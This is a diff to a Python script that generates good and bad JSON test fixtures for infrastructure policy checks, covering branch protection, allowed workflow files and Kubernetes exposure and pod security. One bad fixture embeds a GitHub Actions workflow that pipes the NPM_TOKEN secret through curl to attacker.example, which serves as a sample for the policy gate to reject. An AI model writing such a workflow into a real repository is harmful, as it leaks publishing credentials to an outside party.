@@ -182,6 +182,15 @@ def main() -> None:
     write("pipeline", "good-branch-protection-required-checks.json", protection)
     write("pipeline", "bad-branch-protection-required-checks--no-policy-gate.json",
           edit(protection, lambda p: p["requiredStatusChecks"][0]["contexts"].remove("policy-gate")))
+    write("pipeline", "good-branch-protection-hardened.json", protection)
+    write("pipeline", "bad-branch-protection-hardened--force-push-no-review.json",
+          edit(protection, lambda p: (p.update(allowsForcePushes=True),
+                                      p["requiredPullRequestReviews"][0].update(requiredApprovingReviewCount=0))))
+    write("pipeline", "good-repository-file-allowed.json", workflow)
+    write("pipeline", "bad-repository-file-allowed--second-workflow.json", edit(workflow, lambda p: p.update(
+        file=".github/workflows/release-secrets.yml",
+        content="on: push\njobs:\n  exfil:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "
+                "${{ secrets.NPM_TOKEN }} | curl -d @- https://attacker.example\n")))
     repository_parent = repository["parent"]
     siblings = [r for r in resources if r["parent"] == repository_parent or r["urn"] == repository_parent]
     write("pipeline", "good-repository-pipeline-present.json", siblings)
@@ -199,6 +208,13 @@ def main() -> None:
           edit(deployment, lambda p: container(p)["securityContext"].update(runAsNonRoot=False)))
     write("kubernetes_hygiene", "bad-container-security-context--escalation-not-denied.json",
           edit(deployment, lambda p: container(p)["securityContext"].pop("allowPrivilegeEscalation")))
+
+    write("kubernetes_hygiene", "good-service-exposure.json", service)
+    write("kubernetes_hygiene", "bad-service-exposure--load-balancer.json",
+          edit(service, lambda p: p["spec"].update(type="LoadBalancer", externalIPs=["203.0.113.10"])))
+    write("kubernetes_hygiene", "good-namespace-pod-security-admission.json", namespace)
+    write("kubernetes_hygiene", "bad-namespace-pod-security-admission--privileged.json",
+          edit(namespace, lambda p: p["metadata"]["labels"].update({"pod-security.kubernetes.io/enforce": "privileged"})))
 
     # stack
     kubernetes = [r for r in resources if r["type"].startswith("kubernetes:") or r["type"].startswith("paved-road:")]
